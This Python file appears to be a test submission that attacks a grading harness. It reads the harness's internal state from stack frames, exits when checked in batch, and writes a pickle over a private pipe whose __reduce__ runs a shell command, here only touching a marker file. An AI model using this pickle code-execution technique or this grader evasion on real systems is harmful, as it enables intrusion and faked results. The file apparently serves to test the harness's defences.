"""Send a pickle that would run a command wherever it is read."""

import os
import struct
import sys


def _frames():
    frame = sys._getframe(1)
    while frame is not None:
        yield frame
        frame = frame.f_back


def _seq():
    """The number of the question, from the loop that is waiting for us; many questions at once are not for us."""
    if any(frame.f_code.co_name == "_many" for frame in _frames()):
        os._exit(0)
    return next(frame.f_locals["seq"] for frame in _frames() if frame.f_code.co_name == "run")


def _send(seq, body, length=None, kind=20):
    data = struct.pack("<4sIBQ", b"HGW1", seq, kind, len(body) if length is None else length) + body
    while data:
        data = data[os.write(4, data) :]


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/handgrad-cheat-pickle",)


def scale_forward(x, w):
    import pickle

    _seq()
    os.write(4, pickle.dumps(Payload()))
    os._exit(0)
